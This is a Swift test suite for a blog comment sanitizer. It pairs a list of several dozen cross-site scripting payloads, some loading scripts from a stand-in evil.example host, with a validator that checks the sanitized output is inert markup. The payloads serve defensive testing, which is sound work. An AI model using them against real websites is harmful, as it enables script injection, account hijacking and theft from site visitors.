import CMBlogComments
import Foundation
import Testing

/// Hostile comment bodies: none may come out as markup a browser would execute.
@Suite struct SanitizerSafetyTests {
    static let hostileInputs: [String] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
        "<script/src=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"jav&#9;ascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" \u{01}javascript:alert(1)\">x</a>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"http://ok.example/\" onmouseover=\"alert(1)\">x</a>",
        "<a href=\"http://ok.example/\" title=\"&quot; onmouseover=&quot;alert(1)\">x</a>",
        "<p onclick=\"alert(1)\">x</p>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<form action=\"http://evil.example/\"><input name=x><button formaction=javascript:alert(1)>go</button></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<template><script>alert(1)</script></template>",
        "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<plaintext><script>alert(1)</script>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!-- --!><img src=x onerror=alert(1)> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<<script>script>alert(1)<</script>/script>",
        "\"><script>alert(1)</script>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<object data=\"x.swf\"><param name=x value=y></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<base href=\"http://evil.example/\">",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<body onload=alert(1)>",
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
        "<a href=\"http://ok.example/\"><a href=\"javascript:alert(1)\">nested</a></a>",
        "<b><i>unclosed <em>tags",
        "<em><strong>misnested</em></strong> <p>para <blockquote>quote</p></blockquote>",
        "<a href=\"https://ok.example/\" </a><img src=x onerror=alert(1)>",
        "<a href=\"http://ok.example/\nsrc=x onerror=alert(1)\">x</a>",
        "<abbr title='x\" onfocus=\"alert(1)' tabindex=1>y</abbr>",
        "<code><script>alert(1)</script></code>",
        "<pre><img src=x onerror=alert(1)></pre>",
        "<q cite=\"javascript:alert(1)\">q</q>",
    ]

    @Test func thereAreAtLeastFortyHostileInputs() {
        #expect(Self.hostileInputs.count >= 40)
    }

    @Test(arguments: hostileInputs)
    func hostileInputYieldsInertMarkup(_ input: String) {
        let output = CommentSanitizer.sanitize(input)
        #expect(InertMarkup.problems(in: output).isEmpty, "\(input) → \(output): \(InertMarkup.problems(in: output))")
        let plain = CommentBodyHTML.render(input)
        #expect(InertMarkup.problems(in: plain).isEmpty, "\(input) → \(plain): \(InertMarkup.problems(in: plain))")
    }

    @Test func theCheckCatchesExecutableMarkup() {
        for unsafe in [
            "<img src=x onerror=alert(1)>", "<a href=\"javascript:alert(1)\" rel=\"nofollow ugc\">x</a>", "<p onclick=\"x\">y</p>",
            "<a href=\"https://ok.example/\">no rel</a>", "<p title=\"a\" style=\"b\">x</p>", "a <script", "<svg>",
        ] {
            #expect(!InertMarkup.problems(in: unsafe).isEmpty, "\(unsafe)")
        }
    }

    @Test func scriptAndStyleContentsAreDropped() {
        for input in ["<script>alert(1)</script>ok", "<style>p{color:red}</style>ok", "<svg><desc>x</desc></svg>ok", "<template>x</template>ok"] {
            #expect(CommentSanitizer.sanitize(input) == "ok", "\(input)")
        }
    }

    @Test func escapedMarkupStaysText() {
        #expect(CommentSanitizer.sanitize("&lt;script&gt;alert(1)&lt;/script&gt;") == "&lt;script&gt;alert(1)&lt;/script&gt;")
        #expect(CommentSanitizer.sanitize("a < b > c & d") == "a &lt; b &gt; c &amp; d")
    }

    @Test func nestedLinksAndUnsafeLinksLoseOnlyTheLink() {
        #expect(CommentSanitizer.sanitize("<a href=\"javascript:alert(1)\">text</a>") == "text")
        #expect(CommentSanitizer.sanitize("<a href=\"https://ok.example/\" onclick=\"x()\">ok</a>")
            == "<a href=\"https://ok.example/\" rel=\"nofollow ugc\">ok</a>")
    }

    @Test func misnestedTagsAreBalanced() {
        #expect(CommentSanitizer.sanitize("<em><strong>x</em>y</strong>") == "<em><strong>x</strong></em>y")
        #expect(CommentSanitizer.sanitize("<b><i>open") == "<b><i>open</i></b>")
        #expect(CommentSanitizer.sanitize("<p>one<p>two") == "<p>one</p><p>two</p>")
    }
}

/// An independent check of sanitizer output: the only markup allowed is the exact form the
/// sanitizer writes, every `href` is http, https or mailto, and no `<` appears otherwise.
enum InertMarkup {
    static let allowed: Set<String> = [
        "p", "br", "a", "em", "strong", "b", "i", "blockquote", "q", "cite", "code", "pre", "ul", "ol", "li", "del", "ins", "abbr",
    ]

    static func problems(in html: String) -> [String] {
        var problems: [String] = []
        var rest = html[...]
        while let open = rest.firstIndex(of: "<") {
            guard let close = rest[open...].firstIndex(of: ">") else {
                problems.append("unclosed '<'")
                break
            }
            let tag = String(rest[rest.index(after: open)..<close])
            problems += check(tag: tag)
            rest = rest[rest.index(after: close)...]
        }
        if html.contains("\u{0}") { problems.append("NUL character") }
        return problems
    }

    private static func check(tag: String) -> [String] {
        if tag.hasPrefix("/") {
            return allowed.contains(String(tag.dropFirst())) ? [] : ["end tag </\(tag.dropFirst())>"]
        }
        let name = String(tag.prefix { $0.isLetter })
        guard allowed.contains(name) else { return ["element <\(name)>"] }
        var attributes = tag.dropFirst(name.count)
        var problems: [String] = []
        while !attributes.isEmpty {
            guard attributes.hasPrefix(" "), let equals = attributes.firstIndex(of: "="),
                  attributes[attributes.index(after: equals)...].hasPrefix("\"")
            else { return problems + ["malformed attributes in <\(tag)>"] }
            let attribute = attributes[attributes.index(after: attributes.startIndex)..<equals]
            let valueStart = attributes.index(equals, offsetBy: 2)
            guard let valueEnd = attributes[valueStart...].firstIndex(of: "\"") else { return problems + ["unterminated value"] }
            let value = String(attributes[valueStart..<valueEnd])
            if value.contains("<") || value.contains(">") { problems.append("unescaped markup in value") }
            switch attribute {
            case "href" where name == "a":
                let decoded = value.replacingOccurrences(of: "&amp;", with: "&")
                // A character reference in the raw value is decoded by the browser; `&amp;#` is not.
                if !["http://", "https://", "mailto:"].contains(where: { decoded.lowercased().hasPrefix($0) }) || value.contains("&#") {
                    problems.append("href \(value)")
                }
            case "rel" where name == "a":
                if value != "nofollow ugc" { problems.append("rel \(value)") }
            case "title":
                break
            default:
                problems.append("attribute \(attribute)")
            }
            attributes = attributes[attributes.index(after: valueEnd)...]
        }
        if name == "a", !tag.contains(" rel=\"nofollow ugc\"") { problems.append("link without rel=nofollow ugc") }
        return problems
    }
}
